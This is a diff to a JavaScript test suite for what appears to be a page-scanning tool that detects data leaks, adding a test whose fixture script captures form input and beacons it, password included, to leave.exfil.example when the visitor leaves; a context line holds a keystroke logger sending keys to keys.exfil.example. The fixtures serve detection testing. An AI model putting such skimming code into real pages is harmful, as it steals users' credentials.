@@ -180,6 +180,18 @@ describe('the visitor', () => {
     expect(obs.phoneBecause).toBeNull();
   });
 
+  it('finds what a page sends as the visitor leaves it (pagehide, visibilitychange)', async () => {
+    const script = `
+      const kept = {};
+      document.addEventListener('input', (e) => { kept[e.target.name] = e.target.value; });
+      document.getElementById('f').addEventListener('submit', (e) => e.preventDefault());
+      const leave = () => navigator.sendBeacon('https://leave.exfil.example/l', JSON.stringify(kept));
+      addEventListener('pagehide', leave);
+      document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') leave(); });`;
+    const { observations: obs } = await render({ 'index.html': page(LOGIN, script) });
+    expect(obs.leaks.find((l) => l.kind === 'password')).toMatchObject({ host: 'leave.exfil.example' });
+  });
+
   it('finds a key-by-key logger and a form posted to another host', async () => {
     const script = `document.addEventListener('keydown', (e) => { new Image().src = 'https://keys.exfil.example/k?c=' + encodeURIComponent(e.key); });`;
     const form =
